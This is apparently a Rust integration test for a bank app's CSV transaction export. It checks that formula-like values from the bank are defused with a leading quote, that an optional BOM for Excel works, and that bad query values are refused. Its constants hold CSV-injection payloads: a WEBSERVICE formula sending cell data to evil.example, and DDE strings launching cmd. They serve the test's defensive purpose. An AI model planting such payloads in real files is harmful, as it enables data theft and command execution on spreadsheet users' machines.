//! The transactions' CSV export over HTTP: what the bank sends (hostile payees and references
//! included) downloads as a file no spreadsheet runs as a formula, with a BOM for Excel on request.

mod bank;
mod common;

use bank::*;
use klarna::api::ApiError;
use serde_json::{json, Value};

/// The Demo Bank's business account (`Geschäftskonto`), as the sandbox computes it.
const DEMO_GIRO_IBAN: &str = "DE62888888880012345678";

/// What a payer may type into a transfer: formulas, separators, quotes and line breaks.
const HOSTILE_REFERENCE: &str = "x;=WEBSERVICE(\"http://evil.example/?\"&A1)";
const HOSTILE_PAYEE: &str = "@SUM(1+9)*cmd|' /C calc'!A0";
const HOSTILE_SECOND_PAYEE: &str = "-2+3+cmd|' /C calc'!A0";
const HOSTILE_MULTILINE: &str = "\tMiete, Juni\r\n=1+1";

impl Env {
    /// Books a transaction at the sandbox's bank, with texts of the test's choosing.
    async fn book_at_bank(&self, amount: i64, counterparty: &str, reference: &str) {
        let r = self
            .http
            .post(format!("{}/_control/xs2a/transactions", self.klarna))
            .json(&json!({
                "iban": DEMO_GIRO_IBAN,
                "booking_date": "2026-06-10",
                "amount": amount,
                "counterparty": counterparty,
                "reference": reference,
            }))
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), 201, "{}", r.text().await.unwrap_or_default());
    }

    async fn csv(&self, account: &str, query: &str) -> reqwest::Response {
        self.get(&format!("/api/accounts/{account}/transactions.csv{query}"))
            .send()
            .await
            .unwrap()
    }
}

/// A cell a spreadsheet would run as a formula.
fn formula_like(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

#[tokio::test]
async fn the_csv_export_defuses_what_the_bank_sends_and_offers_a_bom_for_excel() {
    let env = start_with(|_| {}).await.signed_in().await;
    env.book_at_bank(-1234, HOSTILE_PAYEE, HOSTILE_REFERENCE)
        .await;
    env.book_at_bank(500, HOSTILE_SECOND_PAYEE, HOSTILE_MULTILINE)
        .await;
    let bank = env.linked_bank().await;
    let account = &bank
        .accounts
        .iter()
        .find(|a| a.masked_iban.ends_with("5678"))
        .expect("the business account")
        .id;
    let synced = env.synced(account, json!({})).await;
    assert_eq!(synced.outcome, Some(klarna::api::SyncOutcome::Ok));

    let plain = env.csv(account, "").await;
    assert_eq!(plain.status(), 200);
    assert_eq!(plain.headers()["content-type"], "text/csv; charset=utf-8");
    let plain = plain.bytes().await.unwrap();
    assert!(plain.starts_with(b"\"booking_date\""), "no BOM by default");
    let with_bom = env.csv(account, "?bom=true").await;
    assert_eq!(with_bom.status(), 200);
    assert_eq!(
        with_bom.headers()["content-type"],
        "text/csv; charset=utf-8"
    );
    let with_bom = with_bom.bytes().await.unwrap();
    assert_eq!(&with_bom[..3], b"\xEF\xBB\xBF", "UTF-8 BOM");
    assert_eq!(&with_bom[3..], &plain[..], "the same file after the BOM");

    // Read back as RFC 4180: every value the bank sent, defused where it starts a formula.
    let mut reader = csv::Reader::from_reader(&plain[..]);
    assert_eq!(
        reader.headers().unwrap().iter().collect::<Vec<_>>(),
        [
            "booking_date",
            "amount",
            "currency",
            "counterparty",
            "reference"
        ]
    );
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    let list: Vec<klarna::api::BookedTransaction> = env
        .get_ok(&format!("/api/accounts/{account}/transactions"))
        .await;
    assert_eq!(rows.len(), list.len());
    let row = |payee: &str| {
        rows.iter()
            .find(|r| &r[3] == payee)
            .unwrap_or_else(|| panic!("{payee} in {rows:?}"))
    };
    let first = row(&format!("'{HOSTILE_PAYEE}"));
    assert_eq!(&first[0], "2026-06-10");
    assert_eq!(&first[1], "-12.34", "a negative amount stays a number");
    assert_eq!(&first[2], "EUR");
    assert_eq!(&first[4], "x;'=WEBSERVICE(\"http://evil.example/?\"&A1)");
    let second = row(&format!("'{HOSTILE_SECOND_PAYEE}"));
    assert_eq!(&second[1], "5.00");
    assert_eq!(&second[4], "'\tMiete, Juni\r\n'=1+1");
    for r in &rows {
        assert_eq!(r.len(), 5);
        assert!(
            r[1].trim_start_matches('-')
                .chars()
                .all(|c| c.is_ascii_digit() || c == '.'),
            "amount {r:?}"
        );
        for cell in [&r[0], &r[2], &r[3], &r[4]] {
            assert!(!formula_like(cell), "{cell:?} in {r:?}");
        }
    }
    // German Excel opened by double-click splits on `;`, maybe without regard for quotes
    // after a field's start: no piece it could make begins a formula.
    let text = String::from_utf8(plain.to_vec()).unwrap();
    for piece in text.split([';', '\r', '\n']) {
        let cell = piece.trim_start_matches('"');
        assert!(!formula_like(cell), "{piece:?}");
    }
    // And a reader that honours quotes but splits on `;`.
    let mut semicolons = csv::ReaderBuilder::new()
        .delimiter(b';')
        .flexible(true)
        .from_reader(&plain[..]);
    for record in semicolons.records() {
        for cell in record.unwrap().iter() {
            assert!(!formula_like(cell), "{cell:?}");
        }
    }

    // Any other value is refused, naming the parameter.
    for bad in ["?bom=yes", "?bom=", "?bom=true&bom=false"] {
        let r = env.csv(account, bad).await;
        assert_eq!(r.status(), 400, "{bad}");
        let e: ApiError = r.json().await.unwrap();
        assert_eq!(e.fields[0].field, "bom", "{bad}");
    }
    // Documented in the API description.
    let doc: Value = env
        .http
        .get(format!("{}/api/openapi.json", env.url))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let operation = &doc["paths"]["/api/accounts/{account}/transactions.csv"]["get"];
    let bom = operation["parameters"]
        .as_array()
        .unwrap()
        .iter()
        .find(|p| p["name"] == "bom")
        .expect("bom documented");
    assert_eq!(
        (&bom["in"], &bom["required"]),
        (&json!("query"), &json!(false))
    );
    assert!(bom["schema"].to_string().contains("boolean"), "{bom}");
    assert!(operation["responses"]["400"].is_object());
}
